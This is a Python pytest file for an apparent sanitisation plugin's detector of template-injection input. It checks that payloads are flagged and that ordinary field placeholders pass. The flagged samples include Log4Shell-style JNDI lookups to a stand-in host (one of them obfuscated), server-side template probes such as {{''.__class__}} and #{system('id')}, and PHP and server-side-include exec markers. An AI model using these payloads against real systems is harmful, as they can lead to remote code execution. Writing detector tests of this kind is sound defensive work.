from __future__ import annotations

import pytest

from plugins.sanitise.detection import Kind
from plugins.sanitise.detection.templates import judge


def rules(text: str) -> set[str]:
    return {hit.rule.id for hit in judge(text, Kind.VALUE)}


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("${jndi:ldap://a.example/b}", "template.lookup"),
        ("${${lower:j}ndi:rmi://a.example}", "template.lookup"),
        ("{{7*7}}", "template.expression"),
        ("${7*7}", "template.expression"),
        ("#{system('id')}", "template.expression"),
        ("{% if 1 %}", "template.expression"),
        ("{{''.__class__}}", "template.expression"),
        ("<%= 7*7 %>", "template.code"),
        ("<?php x", "template.code"),
        ('<!--#exec cmd="x"-->', "template.code"),
    ],
)
def test_what_would_be_computed_is_told(text, expected) -> None:
    assert expected in rules(text)


@pytest.mark.parametrize(
    "text",
    [
        "Hello {{name}}",
        "${price}",
        "{{ user.first_name }}",
        "#{42}",
        "<%>",
        "{blue}",
        "[[1]]",
        "{% $name %}",
        "@(home)",
    ],
)
def test_the_name_of_a_field_to_fill_in_passes(text) -> None:
    assert rules(text) == set()
